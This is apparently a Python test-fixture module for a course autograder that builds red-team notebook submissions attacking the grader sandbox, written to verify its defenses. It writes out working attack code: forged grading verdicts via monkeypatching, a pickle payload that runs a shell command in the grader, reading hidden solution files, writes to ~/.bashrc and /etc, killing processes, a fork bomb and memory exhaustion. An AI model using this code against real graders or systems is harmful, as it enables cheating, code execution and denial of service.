"""The red-team class: real submission notebooks, built from the student release (or the
master) of an assignment, that attack the grader or solve the assignment in a style the
masters don't use. tests/course/test_redteam.py grades them with `nnlab grade` and checks
each one's expected outcome.

Each assignment has a module tests/course/redteam/<assignment>.py with

    SUBMISSIONS = {name: submission(...), ...}

built with `submission` below. A submission starts from the blank release ("blank": every
answer cell a stub), the master ("master": every answer right) or a wrong implementation
(a list of (old, new) edits to the master, as in tests/course/submissions/), then:

    edits:    [(old, new), ...] text edits to the answer cells (each must match one cell)
    replace:  {grade_id: source}  a cell's whole source (answer, locked or test cells)
    add:      [(after, source), ...] new code cells after the cell `after` (a grade_id, or
              None for the top of the notebook)
    raw:      bytes that replace the whole file (an unreadable notebook)

and says what must come of it:

    expect:   "zero" | "full" | a set of the test cells that lose their points (and only them)
    status:   the status it must get ("graded" unless said)
    category: which attack (or "correct alternative") it is, for the report
    forbidden: strings that must appear in none of what the student is handed (feedback page,
              autograded notebook)
"""
import json


def submission(category, expect, base="blank", edits=(), replace=None, add=(), raw=None, status="graded",
               forbidden=()):
    return {"category": category, "expect": expect, "base": base, "edits": list(edits),
            "replace": dict(replace or {}), "add": list(add), "raw": raw, "status": status,
            "forbidden": list(forbidden)}


def _grade_id(cell):
    return cell.get("metadata", {}).get("nbgrader", {}).get("grade_id")


def build(spec, blank, master):
    """The submission's notebook (bytes) from the release and master notebooks (dicts)."""
    if spec["raw"] is not None:
        return spec["raw"]
    base = master if spec["base"] == "master" else blank
    nb = json.loads(json.dumps(base))
    if spec["base"] == "blank" and spec["edits"]:
        raise ValueError("edits apply to the master's answers: use base='master' (or replace= for a blank)")
    for old, new in spec["edits"]:
        cells = [c for c in nb["cells"] if c.get("metadata", {}).get("nbgrader", {}).get("solution")
                 and old in "".join(c["source"])]
        if len(cells) != 1:
            raise ValueError(f"the edit {old!r} must match exactly one answer cell, it matches {len(cells)}")
        cells[0]["source"] = "".join(cells[0]["source"]).replace(old, new, 1)
    for grade_id, source in spec["replace"].items():
        cells = [c for c in nb["cells"] if _grade_id(c) == grade_id]
        if len(cells) != 1:
            raise ValueError(f"no single cell {grade_id!r} to replace")
        cells[0]["source"] = source
    for after, source in spec["add"]:
        cell = {"cell_type": "code", "execution_count": None, "metadata": {}, "outputs": [], "source": source}
        if after is None:
            nb["cells"].insert(0, cell)
            continue
        index = [i for i, c in enumerate(nb["cells"]) if _grade_id(c) == after]
        if len(index) != 1:
            raise ValueError(f"no single cell {after!r} to add after")
        nb["cells"].insert(index[0] + 1, cell)
    return json.dumps(nb, indent=1).encode()


def common_attacks(assignment, after="setup", first_name="Linear"):
    """The attacks that do not depend on an assignment's content, for `assignment`: added
    cells after the cell `after` (a locked cell near the top), on the blank release (they must
    get nothing) or on the master (a kill, fork, flood or file written must cost a correct
    student nothing, and its side effect must not happen outside the sandbox).
    first_name: a name the students' code defines (forged replies bind it to data)."""
    MARK = f"/tmp/nnlab-redteam-{assignment}"  # noqa: N806 - attacks create files with this prefix
    return {
    "forge_every_reply_ok": submission(
        "verdict forged", "zero", add=[(after, '''
import sys
agent = sys.modules["__main__"]          # the sandbox's own program
def answer_ok(self, header, blobs):      # every later request "succeeds" with nothing
    self.send({"re": header.get("seq"), "ok": True, "value": None, "names": {}})
agent.Agent.answer = answer_ok
''')]),
    "forge_replies_through_globals": submission(
        "verdict forged", "zero", add=[(after, '''
g = (lambda: 0).__globals__
s = g["__builtins__"]["__import__"]("s" + "ys")
for frame_owner in [s.modules["_" * 2 + "main" + "_" * 2]]:
    cls = getattr(frame_owner, "Ag" + "ent")
    def forged(self, header, blobs):
        seq = header.get("seq")
        names = {n: {"d": 1.0} for n in header.get("names", [])}
        self.send({"re": seq, "ok": True, "value": True, "names": names})
    setattr(cls, "ans" + "wer", forged)
''')]),
    "forge_names_as_data": submission(
        "verdict forged", "zero", add=[(after, '''
import socket, json, struct
sock = socket.fromfd(3, socket.AF_UNIX, socket.SOCK_STREAM)
def frame(header):
    body = json.dumps(header).encode()
    return struct.pack(">I", len(body)) + body + struct.pack(">I", 0)
# answer requests the grader has not made yet: the grader must reject replies out of order
for seq in range(1, 200):
    sock.sendall(frame({"re": seq, "ok": True, "value": {"l": [0.0]}, "names": {"''' + first_name + '''": {"d": 0}}}))
''')]),
    "patch_helper_code_objects": submission(
        "patched helpers", "zero", add=[(after, '''
import nnlab.testing, nnlab.gradcheck
nothing = (lambda *a, **k: None).__code__
for f in (nnlab.testing.assert_close, nnlab.testing.check_forward, nnlab.testing.check_backward,
          nnlab.testing.gradient_report):
    f.__code__ = nothing
nnlab.gradcheck.relative_error.__code__ = (lambda *a, **k: 0.0).__code__
nnlab.testing.assert_close.__defaults__ = None
assert_close = lambda *a, **k: None
''')]),
    "shadow_builtins": submission(
        "patched builtins", "zero", status="failed", add=[(after, '''
import builtins
def abs(x): return 0.0
def range(*a): return []
builtins.abs, builtins.range, builtins.all, builtins.any = abs, range, (lambda *a: True), (lambda *a: False)
builtins.isinstance = lambda *a: True
''')]),
    "patch_numpy_comparisons": submission(
        "patched numpy", "zero", add=[(after, '''
np.allclose = lambda *a, **k: True
np.testing.assert_allclose = lambda *a, **k: None
np.isclose = lambda a, b, **k: np.ones(np.shape(a), bool)
np.abs = lambda x: np.zeros_like(x)
np.any = lambda *a, **k: False
''')]),
    "read_the_master_from_disk": submission(
        "master read from disk", "zero", add=[(after, '''
import glob, json, os, nnlab
candidates = glob.glob(os.path.join(os.path.dirname(nnlab.__file__), "..", "..", "solutions", "*", "*.ipynb"))
for top, dirs, files in os.walk("/", followlinks=False):
    dirs[:] = [d for d in dirs if d not in ("proc", "sys", "dev")]
    candidates += [os.path.join(top, f) for f in files if f.endswith(".ipynb")]
candidates += glob.glob("/work/*/solutions/''' + assignment + '''/*.ipynb")
for path in candidates:
    master = json.load(open(path))
    for cell in master["cells"]:
        if "BEGIN SOLUTION" in "".join(cell["source"]):
            exec("".join(cell["source"]))
''')]),
    "pickle_through_the_channel": submission(
        "code in the grader", "zero", status="failed", add=[(after, '''
import sys, pickle, base64, os
class Boom:
    def __reduce__(self):
        return (os.system, ("touch ''' + MARK + '''-unpickled",))
payload = pickle.dumps(Boom())
agent = sys.modules["__main__"]
send = agent.Agent.send
def send_pickle(self, header, blobs=()):
    header = dict(header)
    header["value"] = {"p": base64.b64encode(payload).decode()}
    npy = b"\\x93NUMPY\\x01\\x00" + (118).to_bytes(2, "little") + \\
        b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }".ljust(117) + b"\\n" + payload
    return send(self, header, list(blobs) + [npy, payload])
agent.Agent.send = send_pickle
''')]),
    "write_files_outside": submission(
        "files written outside", "full", base="master", add=[(after, '''
import os
for path in ["''' + MARK + '''-written", "/root/''' + MARK[5:] + '''", "/work/main/''' + MARK[5:] + '''",
             "../../../course/''' + MARK[5:] + '''", os.path.expanduser("~/.bashrc"), "/etc/''' + MARK[5:] + '''"]:
    try:
        with open(path, "a") as f:
            f.write("written by a submission\\n")
    except OSError as error:
        print("could not write", path, type(error).__name__)
''')]),
    "network_out": submission(
        "network", "full", base="master", add=[(after, '''
import socket
for host, port in [("127.0.0.1", 22), ("127.0.0.1", 8000), ("1.1.1.1", 53), ("pypi.org", 443)]:
    try:
        socket.create_connection((host, port), timeout=1).close()
        open("''' + MARK + '''-network", "w").write(host)   # (the sandbox's own /tmp at most)
    except OSError as error:
        print("no connection to", host, type(error).__name__)
''')]),
    "kill_everything_visible": submission(
        "other students", "full", base="master", add=[(after, '''
import os, signal
for pid in range(2, 5000):
    if pid != os.getpid():
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
try:
    os.kill(-1, signal.SIGKILL)   # everything this process may signal, except itself
except OSError:
    pass
''')]),
    "fork_setsid_survivor": submission(
        "other students", "full", base="master", add=[(after, '''
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.closerange(0, 3)        # keep fd 3, the grader's channel, open
        time.sleep(600)
    os._exit(0)
''')]),
    "fork_bomb": submission(
        "other students", "full", base="master", status="timeout", add=[(after, '''
import os
children = 0
while True:
    try:
        if os.fork() == 0:
            while True:
                pass
        children += 1
    except OSError:
        pass
''')]),
    "flood_output": submission(
        "other students", "full", base="master", add=[(after, '''
import sys
for _ in range(20000):
    print("x" * 10000)
sys.stderr.write("y" * 10_000_000)
''')]),
    "exhaust_memory": submission(
        "other students", "full", base="master", add=[(after, '''
hog = []
try:
    while True:                             # reserve address space until the limit says no
        hog.append(np.empty(1 << 27))       # 1 GiB at a time (untouched: filling it is slow)
except MemoryError:
    hog = None
used = np.ones(1 << 24)                     # and 128 MiB really used
''')]),
    "style_unused_imports_of_unavailable_modules": submission(
        "correct alternative", "full", base="master", add=[(after, '''
import torch                      # left over from trying things out: never used
import torch.nn.functional as F
from nnlab import nn, optim
import nnlab.nn
''')]),
    "unreadable_notebook": submission(
        "broken notebook", "zero", raw=b'{"cells": [', status="failed"),
    "notebook_without_cells": submission(  # valid JSON, but not a notebook: another tool's file
        "broken notebook", "zero", raw=b'{"metadata": {}, "nbformat": 4, "nbformat_minor": 5}\n', status="failed"),
    }
